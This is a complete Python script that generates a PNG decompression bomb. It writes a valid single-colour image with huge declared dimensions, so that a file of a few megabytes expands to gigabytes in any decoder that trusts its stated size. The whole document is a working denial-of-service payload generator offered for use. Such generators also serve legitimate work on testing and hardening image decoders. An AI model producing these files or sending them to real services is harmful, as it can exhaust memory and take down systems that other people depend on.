#!/usr/bin/env python3
"""Writes a PNG of one colour whose size is far beyond reason (a "picture bomb"): 8-bit RGB,
so that 30000 x 30000 pixels take 2.7 MB of file and unpack to 2.7 GB (a decoder that trusts
the stated size holds it all). Usage: make_picture_bomb.py OUT W H"""
import struct
import sys
import zlib


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def main() -> None:
    out, width, height = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    # 8-bit RGB (colour type 2), every row filter 0 and white; compressed a hundred rows at a
    # time, which is quicker than row by row.
    rows = (b"\x00" + b"\xff" * (3 * width)) * 100
    packer = zlib.compressobj(9)
    data = bytearray()
    for _ in range(height // 100):
        data += packer.compress(rows)
    data += packer.compress(rows[: (height % 100) * (1 + 3 * width)])
    data += packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    with open(out, "wb") as f:
        f.write(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", bytes(data)) +
                chunk(b"IEND", b""))


if __name__ == "__main__":
    main()
